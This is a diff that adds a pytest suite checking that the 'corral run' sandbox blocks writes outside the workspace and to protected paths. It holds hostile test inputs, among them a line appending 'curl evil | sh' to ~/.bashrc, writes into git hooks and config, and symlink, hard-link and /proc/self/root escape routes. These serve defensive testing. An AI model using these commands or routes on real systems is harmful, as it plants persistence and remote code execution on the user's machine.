@@ -1,0 +1,196 @@
+"""The filesystem boundary of ``corral run``: what a command may write, and what not.
+
+Every case runs the real command line, real bubblewrap and the real kernel
+layers, and checks the host afterwards, not the command's own word.
+"""
+
+from __future__ import annotations
+
+import os
+import subprocess
+from pathlib import Path
+
+from tests.conftest import Home
+from tests.support import CorralCLI, sh
+
+
+def test_writes_inside_the_workspace_reach_the_host(
+    corral: CorralCLI, workspace: Path
+) -> None:
+    ran = corral.run(
+        workspace, *sh("echo made > new.txt && mkdir -p d/e && echo x > d/e/f")
+    )
+    assert ran.returncode == 0, ran.stderr
+    assert (workspace / "new.txt").read_text() == "made\n"
+    assert (workspace / "d" / "e" / "f").exists()
+
+
+def test_writes_outside_the_workspace_are_refused(
+    corral: CorralCLI, workspace: Path, tmp_path: Path
+) -> None:
+    outside = tmp_path / "outside"
+    outside.mkdir()
+    ran = corral.run(workspace, *sh(f"echo x > {outside}/f"))
+    assert ran.returncode != 0
+    assert not (outside / "f").exists()
+    assert "outside the writable roots" in ran.stderr
+
+
+def test_shell_start_up_files_cannot_be_changed(
+    corral: CorralCLI, workspace: Path, home: Home
+) -> None:
+    ran = corral.run(workspace, *sh("echo 'curl evil | sh' >> ~/.bashrc"))
+    assert ran.returncode != 0
+    assert (home.path / ".bashrc").read_text() == "# shell start-up\n"
+
+
+def test_git_hooks_of_the_top_repository_are_read_only(
+    corral: CorralCLI, workspace: Path
+) -> None:
+    ran = corral.run(workspace, *sh("echo 'evil' > .git/hooks/pre-commit"))
+    assert ran.returncode != 0
+    assert not (workspace / ".git" / "hooks" / "pre-commit").exists()
+    assert "protected path .git" in ran.stderr
+
+
+def test_git_hooks_of_a_nested_repository_are_read_only(
+    corral: CorralCLI, workspace: Path
+) -> None:
+    hook = workspace / "vendor" / "lib" / ".git" / "hooks" / "post-checkout"
+    ran = corral.run(workspace, *sh(f"echo evil > {hook}"))
+    assert ran.returncode != 0
+    assert not hook.exists()
+
+
+def test_git_config_writes_are_refused(corral: CorralCLI, workspace: Path) -> None:
+    before = (workspace / ".git" / "config").read_text()
+    ran = corral.run(workspace, "git", "config", "core.hooksPath", "/x")
+    assert ran.returncode != 0
+    assert (workspace / ".git" / "config").read_text() == before
+
+
+def test_the_git_directory_cannot_be_renamed_or_deleted(
+    corral: CorralCLI, workspace: Path
+) -> None:
+    ran = corral.run(workspace, *sh("mv .git g; rm -rf .git; rmdir .git; true"))
+    assert ran.returncode == 0
+    assert (workspace / ".git" / "HEAD").exists()
+    assert not (workspace / "g").exists()
+
+
+def test_symlink_routes_to_protected_files_are_read_only(
+    corral: CorralCLI, workspace: Path
+) -> None:
+    ran = corral.run(
+        workspace,
+        *sh(
+            "ln -s .git/hooks h && echo evil > h/pre-push; "
+            "ln -s .git/config c && echo evil >> c; true"
+        ),
+    )
+    assert ran.returncode == 0
+    assert not (workspace / ".git" / "hooks" / "pre-push").exists()
+    assert "evil" not in (workspace / ".git" / "config").read_text()
+
+
+def test_proc_self_root_reaches_protected_files_read_only(
+    corral: CorralCLI, workspace: Path
+) -> None:
+    ran = corral.run(
+        workspace, *sh(f"echo evil > /proc/self/root{workspace}/.git/hooks/x")
+    )
+    assert ran.returncode != 0
+    assert not (workspace / ".git" / "hooks" / "x").exists()
+
+
+def test_hard_links_to_protected_files_cannot_be_made(
+    corral: CorralCLI, workspace: Path
+) -> None:
+    ran = corral.run(workspace, *sh("ln .git/config cfg && echo evil >> cfg"))
+    assert ran.returncode != 0
+    assert "evil" not in (workspace / ".git" / "config").read_text()
+
+
+def test_an_existing_hard_link_to_a_protected_file_refuses_the_run(
+    corral: CorralCLI, workspace: Path
+) -> None:
+    os.link(workspace / ".git" / "config", workspace / "cfg")
+    ran = corral.run(workspace, "true")
+    assert ran.returncode == 125
+    assert "hard links" in ran.stderr
+
+
+def test_a_symlinked_protected_path_refuses_the_run(
+    corral: CorralCLI, workspace: Path, tmp_path: Path
+) -> None:
+    elsewhere = tmp_path / "vscode-settings"
+    elsewhere.mkdir()
+    (workspace / ".vscode").symlink_to(elsewhere)
+    ran = corral.run(workspace, "true")
+    assert ran.returncode == 125
+    assert "symbolic link" in ran.stderr
+
+
+def test_absent_protected_paths_cannot_be_created_and_leave_nothing_behind(
+    corral: CorralCLI, workspace: Path
+) -> None:
+    ran = corral.run(
+        workspace,
+        *sh(
+            "mkdir .vscode; echo '{}' > .mcp.json; echo 'eval evil' > .envrc; "
+            "mkdir -p .claude/commands; ls -a"
+        ),
+    )
+    assert ran.returncode == 0, ran.stderr
+    for name in (".vscode", ".mcp.json", ".envrc", ".claude", ".agents", ".codex"):
+        assert not (workspace / name).exists(), name
+
+
+def test_a_worktree_git_directory_is_read_only(
+    corral: CorralCLI, workspace: Path, tmp_path: Path
+) -> None:
+    tree = workspace / "wt"
+    subprocess.run(
+        ["git", "worktree", "add", "-q", str(tree), "-b", "side"],
+        cwd=workspace,
+        check=True,
+        capture_output=True,
+    )
+    gitdir = workspace / ".git" / "worktrees" / "wt"
+    ran = corral.run(
+        tree, *sh(f"echo evil > {gitdir}/HEAD; echo evil > {gitdir}/config")
+    )
+    assert ran.returncode != 0
+    assert "evil" not in (gitdir / "HEAD").read_text()
+    assert (
+        not (gitdir / "config").exists()
+        or "evil" not in (gitdir / "config").read_text()
+    )
+
+
+def test_private_tmp_is_empty_and_leaves_nothing_on_the_host(
+    corral: CorralCLI, workspace: Path
+) -> None:
+    marker = f"corral-test-{os.getpid()}"
+    ran = corral.run(workspace, *sh(f"ls -A /tmp | wc -l; touch /tmp/{marker}"))
+    assert ran.returncode == 0, ran.stderr
+    assert ran.stdout.strip() == "0"
+    assert not Path("/tmp", marker).exists()
+
+
+def test_read_only_mode_refuses_workspace_writes(
+    corral: CorralCLI, workspace: Path
+) -> None:
+    ran = corral(
+        "run",
+        "-C",
+        str(workspace),
+        "--sandbox",
+        "read-only",
+        "--",
+        "sh",
+        "-c",
+        "echo x > f",
+    )
+    assert ran.returncode != 0
+    assert not (workspace / "f").exists()
